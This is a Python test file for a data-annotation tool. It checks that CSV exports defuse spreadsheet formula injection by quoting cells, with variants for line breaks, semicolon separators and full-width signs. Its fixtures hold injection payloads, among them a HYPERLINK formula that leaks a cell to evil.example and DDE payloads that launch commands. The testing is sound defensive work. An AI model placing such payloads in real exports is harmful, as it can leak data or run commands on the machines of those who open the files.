"""Issue 12, finding 7: CSV formula injection. Item text and answers that a spreadsheet would run
as a formula (``=1+1``, ``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a leading tab or CR) are
written with a leading single quote in CSV exports only; JSONL and Parquet keep them raw, and a
plain negative number stays a number."""

from __future__ import annotations

import csv
import json

import pyarrow.parquet as pq
import pytest

from annotation import importing
from curation import services
from curation.exports import export_root, run_export_job
from curation.exports.common import csv_cell
from curation.models import Export
from tests.annotation.factories import jsonl, make_project, valueground_records

from .helpers import submit_all

pytestmark = pytest.mark.django_db

FORMULA = "=1+1"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FEEDBACK = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def project(researcher, annotators, tmp_path):
    folder = tmp_path / "img"
    folder.mkdir()
    records = valueground_records(folder, n=2)
    records[0].update(question=FORMULA, option_a=LINK, option_b="-2+3", meta={"note": "\t=cmd"})
    project = make_project("valueground.pair_quality", owner=researcher, annotators=annotators[:2], k=2)
    report = importing.import_items(project=project, data=jsonl(records), data_format="jsonl", images=folder)
    assert report.ok, report.errors
    answers = {"q1": 2, "q2": 2, "q3": 2, "q4": 0, "feedback": FEEDBACK}
    submit_all(project, lambda item, rater: answers)
    services.apply_policy(project=project, user=researcher)
    return project


def export(project, user, content, fmt) -> Export:
    e = Export.objects.create(project=project, created_by=user, content=content, format=fmt, scope="all")
    e = run_export_job(export=e)
    assert e.status == "done", e.message
    return e


def csv_rows(e, name):
    with open(export_root(e) / name, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_item_text_starting_a_formula_is_quoted_in_csv_only(project, researcher):
    [row] = [r for r in csv_rows(export(project, researcher, "items", "csv"), "items.csv") if r["id"] == "vg0"]
    assert row["question"] == "'" + FORMULA
    assert row["option_a"] == "'" + LINK
    assert row["option_b"] == "'-2+3"
    assert row["option_b"] != "-2+3"
    assert json.loads(row["meta"]) == {"note": "\t=cmd"}  # JSON text starts with "{": nothing to run
    jsonl_rows = [
        json.loads(x)
        for x in (export_root(export(project, researcher, "items", "jsonl")) / "items.jsonl").read_text().splitlines()
    ]
    [raw] = [r for r in jsonl_rows if r["id"] == "vg0"]
    assert (raw["question"], raw["option_a"], raw["option_b"]) == (FORMULA, LINK, "-2+3")
    table = pq.read_table(export_root(export(project, researcher, "items", "parquet")) / "items.parquet").to_pylist()
    [raw] = [r for r in table if r["id"] == "vg0"]
    assert (raw["question"], raw["option_a"]) == (FORMULA, LINK)


def test_answers_starting_a_formula_are_quoted_in_csv_only(project, researcher):
    rows = csv_rows(export(project, researcher, "annotations", "csv"), "annotations.csv")
    feedback = [r["value"] for r in rows if r["field"] == "feedback"]
    assert feedback and all(v == "'" + FEEDBACK for v in feedback)
    assert all(not r[c].startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)
    lines = (export_root(export(project, researcher, "annotations", "jsonl")) / "annotations.jsonl").read_text()
    values = [json.loads(x)["value"] for x in lines.splitlines() if json.loads(x)["field"] == "feedback"]
    assert values and all(v == FEEDBACK for v in values)
    table = pq.read_table(export_root(export(project, researcher, "annotations", "parquet")) / "annotations.parquet")
    assert {r["value"] for r in table.to_pylist() if r["field"] == "feedback"} == {FEEDBACK}


def test_the_cell_rule():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("+1+1") == "'+1+1"
    assert csv_cell("@x") == "'@x"
    assert csv_cell("\t=1") == "'\t'=1"  # and the cell a tab-separated import cuts after it (issue 37)
    assert csv_cell("\r=1") == "'\r'=1"  # the line after the break is defused too (issue 23)
    assert csv_cell("-1") == "-1" and csv_cell("-0.5") == "-0.5" and csv_cell("+2e3") == "+2e3"
    assert csv_cell(-1) == -1 and csv_cell(None) == "" and csv_cell("a=1") == "a=1"


# ------------------------------------------------------------------ issue 23, finding 1: line breaks
BREAK = "fine\r=cmd|' /C calc'!A0"


@pytest.fixture
def broken_project(researcher, annotators, tmp_path):
    folder = tmp_path / "img"
    folder.mkdir()
    records = valueground_records(folder, n=2)
    records[0].update(question="Q?\r=1+1", option_a="a\nb,@SUM(A1)", option_b='x\r\n"=2+2')
    project = make_project("valueground.pair_quality", owner=researcher, annotators=annotators[:2], k=2)
    report = importing.import_items(project=project, data=jsonl(records), data_format="jsonl", images=folder)
    assert report.ok, report.errors
    answers = {"q1": 2, "q2": 2, "q3": 2, "q4": 0, "feedback": BREAK}
    submit_all(project, lambda item, rater: answers)
    services.apply_policy(project=project, user=researcher)
    return project


@pytest.mark.parametrize("content", ["items", "annotations"])
def test_a_line_break_in_a_value_starts_no_formula_row(broken_project, researcher, content):
    """Issue 23, finding 1: a bare CR in a free-text answer or an item field is quoted, and the
    text after it cannot start a formula row for a reader splitting lines naively either."""
    from tests.core.test_csv_safety import assert_line_breaks_quoted, assert_spreadsheet_safe

    e = export(broken_project, researcher, content, "csv")
    for path in export_root(e).rglob("*.csv"):
        text = path.read_bytes().decode("utf-8")
        assert_spreadsheet_safe(text)
        assert_line_breaks_quoted(text)
    rows = csv_rows(e, f"{content}.csv")
    if content == "annotations":
        feedback = [r["value"] for r in rows if r["field"] == "feedback"]
        assert feedback and set(feedback) == {"fine\r'=cmd|' /C calc'!A0"}
    else:
        [row] = [r for r in rows if r["id"] == "vg0"]
        assert row["question"] == "Q?\r'=1+1" and row["option_a"] == "a\nb,'@SUM(A1)"


# ------------------------------------------------------------------ issue 37, M2: beyond the comma
#: the attack's payloads as an annotator and an import leave them: a profile attribute with a
#: semicolon cell (135 formula cells of 164 with ";" as separator), leading spaces kept in an
#: imported rater attribute, full-width signs and invisible prefixes in answers and item text
REGION = "x;=1+1"
COUNTRY = "  =1+1"
LOCALE_FEEDBACK = "fine; ＝1+1\u2028\u200b@SUM(A1)\tok, -2+3"


@pytest.fixture
def locale_project(researcher, annotators, tmp_path):
    from annotation.models import Rater

    folder = tmp_path / "img"
    folder.mkdir()
    records = valueground_records(folder, n=2)
    records[0].update(question="Which; =1+1", option_a="\ufeff＋1+1", option_b="\u00a0-2+3")
    project = make_project("valueground.pair_quality", owner=researcher, annotators=annotators[:2], k=2)
    report = importing.import_items(project=project, data=jsonl(records), data_format="jsonl", images=folder)
    assert report.ok, report.errors
    submit_all(project, lambda item, rater: {"q1": 2, "q2": 2, "q3": 2, "q4": 0, "feedback": LOCALE_FEEDBACK})
    for rater in Rater.objects.filter(user__in=annotators[:2]):
        rater.attributes = {**(rater.attributes or {}), "region": REGION, "country": COUNTRY}
        rater.save(update_fields=["attributes"])
    services.apply_policy(project=project, user=researcher)
    return project


@pytest.mark.parametrize("content", ["items", "annotations"])
def test_no_locale_reads_a_formula_from_an_export(locale_project, researcher, content):
    """Read with ",", ";" or tab as separator, trimmed or not, full-width mapped or not, no cell of
    a CSV export runs; the values stay recognisable (pandas reads each with its ``'`` before the
    sign) and JSONL keeps them raw."""
    import pandas as pd

    from tests.core.test_csv_safety import assert_line_breaks_quoted, assert_spreadsheet_safe

    e = export(locale_project, researcher, content, "csv")
    paths = list(export_root(e).rglob("*.csv"))
    assert paths
    for path in paths:
        text = path.read_bytes().decode("utf-8")
        assert_spreadsheet_safe(text)
        assert_line_breaks_quoted(text)
    frame = pd.read_csv(export_root(e) / f"{content}.csv", dtype=str, keep_default_na=False)
    if content == "annotations":
        humans = frame[frame["rater.region"] != ""]
        assert len(humans) and set(humans["rater.region"]) == {"x;'=1+1"}
        assert set(humans["rater.country"]) == {"  '=1+1"}
        assert set(frame.loc[frame["field"] == "feedback", "value"]) == {"fine; '＝1+1\u2028\u200b'@SUM(A1)\tok, '-2+3"}
        raw = export_root(export(locale_project, researcher, content, "jsonl")) / "annotations.jsonl"
        lines = raw.read_text(encoding="utf-8").split("\n")  # not splitlines(): U+2028 is inside a value
        values = {json.loads(x)["value"] for x in lines if x and json.loads(x)["field"] == "feedback"}
        assert values == {LOCALE_FEEDBACK}
    else:
        [row] = frame[frame["id"] == "vg0"].to_dict("records")
        assert (row["question"], row["option_a"], row["option_b"]) == (
            "Which; '=1+1",
            "\ufeff'＋1+1",
            "\u00a0'-2+3",
        )
